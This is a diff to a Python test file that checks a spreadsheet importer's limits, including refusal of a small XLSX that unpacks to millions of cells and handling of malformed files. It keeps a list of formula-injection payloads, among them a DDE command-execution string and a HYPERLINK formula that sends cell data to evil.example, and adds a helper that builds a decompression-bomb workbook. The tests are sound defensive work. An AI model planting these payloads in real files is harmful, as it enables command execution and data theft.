@@ -11,6 +11,7 @@ import pytest
 from app import model, worksheets
 from app.storage import rows, safe
 from app.worksheets.cells import FORMULA_STARTS
+from tests.helpers import run_cli
 
 HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
            "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\uff1d1+1"]
@@ -87,3 +88,117 @@ def test_an_exported_sheet_imports_back_to_the_same_names(
     before = _names(hostile_book)
     worksheets.import_file(hostile_book, "programmes", out)
     assert _names(hostile_book) == before
+
+
+# -- bounded imports ----------------------------------------------------------------------
+
+_PARTS = {
+    "[Content_Types].xml": (
+        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
+        'package/2006/content-types"><Default Extension="rels" ContentType="application/'
+        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
+        '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
+        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
+        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.spreadsheetml.worksheet+xml"/></Types>'),
+    "_rels/.rels": (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
+        'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
+        '"xl/workbook.xml"/></Relationships>'),
+    "xl/workbook.xml": (
+        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
+        'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships"><sheets><sheet name="Program" sheetId="1" '
+        'r:id="rId1"/></sheets></workbook>'),
+    "xl/_rels/workbook.xml.rels": (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
+        'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
+        '"worksheets/sheet1.xml"/></Relationships>'),
+}
+_SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
+               'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+
+
+def _xlsx(path: Path, rows: int, columns: int, body: str | None = None) -> Path:
+    """Write a minimal XLSX by hand: ``rows`` x ``columns`` numeric cells (or ``body``)."""
+    import zipfile
+
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, text in _PARTS.items():
+            archive.writestr(name, text)
+        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
+            sheet.write(_SHEET_HEAD.encode())
+            if body is not None:
+                sheet.write(body.encode())
+            else:
+                cells = "".join(f'<c t="n"><v>{c}</v></c>' for c in range(columns)).encode()
+                for _row in range(rows):
+                    sheet.write(b"<row>" + cells + b"</row>")
+            sheet.write(b"</sheetData></worksheet>")
+    return path
+
+
+def test_a_small_xlsx_that_unpacks_to_millions_of_cells_is_refused_before_reading(
+        tmp_path: Path) -> None:
+    bomb = _xlsx(tmp_path / "bom.xlsx", rows=300_000, columns=20)  # six million cells
+    assert bomb.stat().st_size < 3 * 2**20  # small on the disk
+    done = run_cli("import", str(tmp_path / "none.rencana"), "--programmes", str(bomb),
+                   env={"RENCANA_LANG": "en"})
+    assert done.returncode == 1
+    assert done.stderr.strip().startswith("bom.xlsx is too large for a worksheet (")
+    assert done.stderr.strip().endswith("MB unpacked).")
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_rows_past_the_limit_are_refused_while_streaming(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str) -> None:
+    from app.worksheets import table
+
+    monkeypatch.setattr(table, "MAX_ROWS", 50)
+    if suffix == ".csv":
+        source = _csv(tmp_path / "p.csv", [["nama", "dimensi"]] + [["A", "SG"]] * 60)
+    else:
+        source = _xlsx(tmp_path / "p.xlsx", rows=60, columns=2)
+    with pytest.raises(table.WorksheetError) as caught:
+        table.read_table(source)
+    assert caught.value.message("en") == f"p{suffix} has more than 50 rows."
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_too_many_columns_or_cells_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                               suffix: str) -> None:
+    from app.worksheets import table
+
+    wide = [[f"c{n}" for n in range(table.MAX_COLUMNS + 1)]]
+    source = (_csv(tmp_path / "p.csv", wide) if suffix == ".csv"
+              else _xlsx(tmp_path / "p.xlsx", rows=1, columns=table.MAX_COLUMNS + 1))
+    with pytest.raises(table.WorksheetError) as caught:
+        table.read_table(source)
+    assert caught.value.message("en") == f"p{suffix} has more than 500 columns."
+    monkeypatch.setattr(table, "MAX_CELLS", 100)
+    many = _csv(tmp_path / "m.csv", [["a", "b", "c"]] * 40)
+    with pytest.raises(table.WorksheetError, match="more than 100 cells"):
+        table.read_table(many)
+
+
+def test_a_declared_size_that_lies_does_not_pad_every_row(tmp_path: Path) -> None:
+    """A sheet claiming A1:XFD1048576 with two real rows reads as two short rows."""
+    from app.worksheets import table
+
+    body = ('<row r="1"><c r="A1" t="inlineStr"><is><t>nama</t></is></c></row>'
+            '<row r="2"><c r="A2" t="inlineStr"><is><t>Portal</t></is></c></row>')
+    source = _xlsx(tmp_path / "p.xlsx", 0, 0, body=body)
+    found = table.read_table(source)
+    assert (found.headers, found.rows) == (["nama"], [(2, ["Portal"])])
+
+
+@pytest.mark.parametrize("body", ["<row><c><v>1</v></row>", "<row><c t='n'><v>x</v></c></row>",
+                                  "\x00garbage"])
+def test_a_malformed_xlsx_is_one_sentence(tmp_path: Path, body: str) -> None:
+    source = _xlsx(tmp_path / "rusak.xlsx", 0, 0, body=body)
+    done = run_cli("import", str(tmp_path / "none.rencana"), "--programmes", str(source),
+                   env={"RENCANA_LANG": "id"})
+    assert done.returncode == 1
+    assert done.stderr.strip() == "rusak.xlsx bukan berkas Excel yang dapat dibaca."
